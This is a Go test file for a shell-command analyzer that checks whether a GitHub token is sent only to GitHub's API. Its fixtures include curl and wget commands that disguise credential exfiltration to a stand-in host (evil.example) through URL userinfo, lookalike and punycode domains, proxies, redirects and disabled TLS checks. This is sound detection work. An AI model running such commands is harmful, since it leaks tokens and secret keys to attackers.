// Tests that a token sent to the API it is for is a destination, and sent
// anywhere else (however the URL disguises it) stays a secret mark.
package commands

import (
	"strings"
	"testing"
)

func TestTokenToItsOwnAPI(t *testing.T) {
	const send = `curl -fsS -H "Authorization: Bearer $GH_TOKEN" `
	for _, url := range []string{"https://api.github.com/repos/o/r/pulls", "https://API.GitHub.com/user", "https://uploads.github.com/x"} {
		a := testAnalyze([]string{"sh", "-c", send + url})
		if len(a.Marks) > 0 || !mentions(a, "to the API it is for") {
			t.Errorf("%s: want no mark and a destination line:\n%s", url, dump(a))
		}
	}
	for _, script := range []string{
		send + "https://api.github.com@evil.example/",
		send + "https://api.github.com.evil.example/",
		send + "'https://evil.example/?u=https://api.github.com'",
		send + "https://xn--gthub-n4a.com/",
		send + "https://api.github.com/ https://evil.example/",
		send + "-x http://evil.example:8080 http://api.github.com/",
		send + "-L --location-trusted https://api.github.com/",
		send + "-k https://api.github.com/user",
		send + "-fsSk https://api.github.com/user",
		`wget --no-check-certificate --header "Authorization: Bearer $GH_TOKEN" https://api.github.com/user`,
		`curl -d "$AWS_SECRET_ACCESS_KEY" https://api.github.com/`, // not the API this secret is for
	} {
		a := testAnalyze([]string{"sh", "-c", script})
		found := false
		for _, m := range a.Marks {
			found = found || m.Secret && strings.Contains(m.Text, "sends secret")
		}
		if !found || mentions(a, "to the API it is for") {
			t.Errorf("%s: want a secret mark:\n%s", script, dump(a))
		}
	}
}
